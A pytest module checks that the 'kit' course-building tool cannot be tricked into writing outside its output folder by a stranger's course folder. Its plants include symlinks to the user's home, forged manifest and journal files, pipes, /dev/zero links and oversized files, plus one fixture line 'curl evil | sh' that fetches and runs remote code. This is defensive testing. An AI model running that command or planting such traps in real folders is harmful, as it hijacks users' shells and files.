"""A course folder from a stranger cannot steer a build or a check outside its output folder.

Each test unpacks a course folder into `home/Downloads/course` of a temporary home and
plants what a stranger could ship in its `build/`: links under kit's own names, a forged
record or journal, pipes and endless devices. Afterwards nothing outside the output
folder has changed, and kit either refused with a located problem (exit 2) or built.
"""

from __future__ import annotations

import json
import os
import shutil
from pathlib import Path

import pytest
from helpers import FIXTURES, tree_snapshot
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import kit

SMALL = FIXTURES / "markers" / "course.yaml"
"""A one-week course, quick to build."""
LINK = (
    "is a link, and kit never follows a link here; delete the link or move it away, then try again"
)
NOT_A_FILE = "is {kind}, where kit needs a file; move it away, then try again"
TOO_LARGE = "is larger than any record kit writes (4,000,000 bytes), so it is not kit's"
OUT_LINK = (
    "is a link to another folder, and kit builds only into a real folder; "
    "name the folder itself with -o"
)
DAMAGED = (
    "kit's record of the files it wrote here is damaged, so kit cannot tell its files "
    "from yours; delete this record and the kit's files, or build into an empty folder"
)


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """A user's home with a course folder from a download in it, built once already."""
    root = tmp_path / "home"
    (root / "Documents").mkdir(parents=True)
    (root / ".bashrc").write_text("# the user's own shell settings\n", encoding="utf-8")
    (root / "Documents" / "taxes.pdf").write_bytes(b"%PDF the user's taxes")
    course = root / "Downloads" / "course"
    course.mkdir(parents=True)
    shutil.copytree(SMALL.parent, course, dirs_exist_ok=True)
    kit.build(kit.load_course(course / "course.yaml"), course / "build")
    return root


def _course(home: Path) -> Path:
    return home / "Downloads" / "course"


def _run(run_kit, home: Path, *args: str) -> tuple[int, str]:
    """Run kit in the course folder, as its user would; exit status and what it said."""
    before = os.getcwd()
    os.chdir(_course(home))
    try:
        done = run_kit(*args)
    finally:
        os.chdir(before)
    return done.code, done.out + done.err


def _plant_bashrc_record(home: Path) -> Path:
    """The critical plant: a record naming `.bashrc`, its own `build/.bashrc`, and a
    `.kit-backup` link to the home; returns the output folder."""
    build = _course(home) / "build"
    record = json.loads((build / ".kit-manifest.json").read_text(encoding="utf-8"))
    record["files"][".bashrc"] = "0" * 64
    (build / ".kit-manifest.json").write_text(json.dumps(record), encoding="utf-8")
    (build / ".bashrc").write_text("curl evil | sh\n", encoding="utf-8")
    (build / ".kit-backup").symlink_to("../../..")
    return build


def _outside(home: Path) -> dict[str, str]:
    return tree_snapshot(home, _course(home) / "build")


def test_a_planted_record_and_backup_link_cannot_reach_the_users_home(run_kit, home: Path) -> None:
    """The critical case: the record names `.bashrc` and `.kit-backup` leads to the home."""
    _plant_bashrc_record(home)
    before = _outside(home)
    code, said = _run(run_kit, home, "build", "course.yaml")
    assert (code, said) == (
        2,
        f"build/.kit-backup: {LINK}\nkit: 1 problem found; nothing was written\n",
    )
    assert _outside(home) == before
    assert (home / ".bashrc").read_text(encoding="utf-8") == "# the user's own shell settings\n"


def test_a_backup_link_alone_does_not_take_the_old_kit_away(run_kit, home: Path) -> None:
    build = _course(home) / "build"
    (build / ".kit-backup").symlink_to(home / "Documents")
    (home / "Documents" / "leader-guide.docx").write_bytes(b"the user's own guide")
    before, inside = _outside(home), tree_snapshot(build)
    code, said = _run(run_kit, home, "build", "course.yaml")
    assert code == 2
    assert said.startswith(f"build/.kit-backup: {LINK}\n")
    assert _outside(home) == before
    assert tree_snapshot(build) == inside


def test_a_forged_journal_cannot_pull_a_file_in_from_outside(run_kit, home: Path) -> None:
    """A check finishing a forged interrupted build never moves the user's files."""
    build = _course(home) / "build"
    (build / ".kit-journal.json").write_text(
        json.dumps({"format": 1, "aside": ["taxes.pdf"], "placed": {}}), encoding="utf-8"
    )
    (build / ".kit-staging").mkdir()
    (build / ".kit-staging" / ".kit-manifest.json").write_text("{}", encoding="utf-8")
    (build / ".kit-backup").symlink_to(home / "Documents")
    before = _outside(home)
    code, said = _run(run_kit, home, "check", "course.yaml")
    assert (code, said) == (
        2,
        f"build/.kit-backup: {LINK}\nkit: 1 problem found; nothing was written\n",
    )
    assert _outside(home) == before
    assert (home / "Documents" / "taxes.pdf").read_bytes() == b"%PDF the user's taxes"
    assert not (build / "taxes.pdf").exists()


@pytest.mark.parametrize("name", [".kit-manifest.json", ".kit-journal.json"])
def test_a_record_that_is_an_endless_device_is_not_read(run_kit, home: Path, name: str) -> None:
    build = _course(home) / "build"
    (build / name).unlink(missing_ok=True)
    (build / name).symlink_to("/dev/zero")
    for command in ("check", "build"):
        code, said = _run(run_kit, home, command, "course.yaml")
        assert code == 2
        assert said.splitlines()[0] == f"build/{name}: {LINK}"


@pytest.mark.parametrize("name", [".kit-manifest.json", ".kit-journal.json", ".kit-lock"])
def test_a_pipe_under_a_name_of_kits_does_not_hang_it(run_kit, home: Path, name: str) -> None:
    build = _course(home) / "build"
    (build / name).unlink(missing_ok=True)
    os.mkfifo(build / name)
    code, said = _run(run_kit, home, "build", "course.yaml")
    assert code == 2
    assert said.splitlines()[0] == f"build/{name}: {NOT_A_FILE.format(kind='a pipe')}"


def test_a_record_nested_beyond_reason_is_damaged_not_an_internal_error(
    run_kit, home: Path
) -> None:
    build = _course(home) / "build"
    (build / ".kit-manifest.json").write_text("[" * 200_000 + "]" * 200_000, encoding="utf-8")
    code, said = _run(run_kit, home, "build", "course.yaml")
    assert (code, said) == (
        2,
        f"build/.kit-manifest.json: {DAMAGED}\nkit: 1 problem found; nothing was written\n",
    )


def test_a_record_too_large_to_be_kits_is_refused(run_kit, home: Path) -> None:
    build = _course(home) / "build"
    with open(build / ".kit-manifest.json", "wb") as stream:
        stream.truncate(50_000_000)
    code, said = _run(run_kit, home, "build", "course.yaml")
    assert (code, said) == (
        2,
        f"build/.kit-manifest.json: {TOO_LARGE}\nkit: 1 problem found; nothing was written\n",
    )


def test_a_lock_linked_to_a_missing_file_outside_creates_nothing(run_kit, home: Path) -> None:
    build = _course(home) / "build"
    (build / ".kit-lock").symlink_to(home / "planted")
    code, said = _run(run_kit, home, "build", "course.yaml")
    assert code == 2
    assert said.splitlines()[0] == f"build/.kit-lock: {LINK}"
    assert not (home / "planted").exists()


def test_an_output_folder_that_is_a_link_is_not_built_into(run_kit, home: Path) -> None:
    course = _course(home)
    shutil.rmtree(course / "build")
    (course / "build").symlink_to(home)
    before = tree_snapshot(home)
    code, said = _run(run_kit, home, "build", "course.yaml")
    assert (code, said) == (2, f"build: {OUT_LINK}\nkit: 1 problem found; nothing was written\n")
    assert tree_snapshot(home) == before


def test_the_pages_build_refuses_a_planted_backup_link(home: Path) -> None:
    """The page's Build kit runs the same build, in a thread: the same refusal."""
    from kit.serve.building import Builder

    build = _plant_bashrc_record(home)
    before = _outside(home)
    builder = Builder(build)
    job = builder.start(kit.load_course(_course(home) / "course.yaml"), pdf=False)
    builder.wait(timeout=60)
    assert job.state == "failed"
    assert LINK in job.error
    assert _outside(home) == before


KIT_NAMES = [
    ".kit-manifest.json",
    ".kit-journal.json",
    ".kit-journal.json.tmp",
    ".kit-lock",
    ".kit-staging",
    ".kit-backup",
    "leader-guide.docx",
    "week-01-slides.pptx",
    "week-01-handout.docx",
]
"""Every name kit reads, writes, moves or removes in the output folder of a one-week build."""
PLANTS = [
    "link to a file outside",
    "link to a folder outside",
    "link to a missing path outside",
    "link to /dev/zero",
    "pipe",
    "large file",
    "folder",
    "file",
]


def _plant(build: Path, name: str, what: str, home: Path) -> None:
    """Put `what` in `build` under `name`, in place of whatever is there."""
    path = build / name
    if path.is_dir() and not path.is_symlink():
        shutil.rmtree(path)
    else:
        path.unlink(missing_ok=True)
    if what == "link to a file outside":
        path.symlink_to(home / ".bashrc")
    elif what == "link to a folder outside":
        path.symlink_to(home / "Documents")
    elif what == "link to a missing path outside":
        path.symlink_to(home / "Documents" / "planted")
    elif what == "link to /dev/zero":
        path.symlink_to("/dev/zero")
    elif what == "pipe":
        os.mkfifo(path)
    elif what == "large file":
        with open(path, "wb") as stream:
            stream.truncate(60_000_000)
    elif what == "folder":
        path.mkdir()
        (path / "taxes.pdf").write_bytes(b"planted")
    else:
        path.write_text("planted\n", encoding="utf-8")


@pytest.fixture(scope="module")
def built_home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A home with a downloaded course folder and its kit, to copy for each example."""
    root = tmp_path_factory.mktemp("model") / "home"
    (root / "Documents").mkdir(parents=True)
    (root / ".bashrc").write_text("# the user's own shell settings\n", encoding="utf-8")
    (root / "Documents" / "taxes.pdf").write_bytes(b"%PDF the user's taxes")
    course = root / "Downloads" / "course"
    shutil.copytree(SMALL.parent, course)
    kit.build(kit.load_course(course / "course.yaml"), course / "build")
    return root


@settings(
    max_examples=20,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(
    plants=st.dictionaries(st.sampled_from(KIT_NAMES), st.sampled_from(PLANTS), max_size=4),
    forged=st.booleans(),
    command=st.sampled_from(["build", "check"]),
)
def test_whatever_is_planted_nothing_outside_the_output_folder_changes(
    run_kit, built_home: Path, tmp_path: Path, plants: dict[str, str], forged: bool, command: str
) -> None:
    """Links, pipes, devices and huge files under every name kit uses: it builds or refuses."""
    home = tmp_path / f"home-{len(list(tmp_path.iterdir()))}"
    shutil.copytree(built_home, home, symlinks=True)
    build = _course(home) / "build"
    if forged:
        # A record and a journal naming files outside the folder by plain names.
        record = json.loads((build / ".kit-manifest.json").read_text(encoding="utf-8"))
        record["files"] |= {".bashrc": "0" * 64, "taxes.pdf": "0" * 64}
        (build / ".kit-manifest.json").write_text(json.dumps(record), encoding="utf-8")
        journal = {"format": 1, "aside": [".bashrc", "taxes.pdf"], "placed": {}}
        (build / ".kit-journal.json").write_text(json.dumps(journal), encoding="utf-8")
    for name, what in plants.items():
        _plant(build, name, what, home)
    before = _outside(home)
    code, said = _run(run_kit, home, command, "course.yaml")
    assert _outside(home) == before
    assert code in (0, 2), said
    if code == 2:
        lines = said.splitlines()
        assert lines[-1].startswith("kit: "), said
        assert all(line.startswith(("build", "course.yaml")) for line in lines[:-1]), said
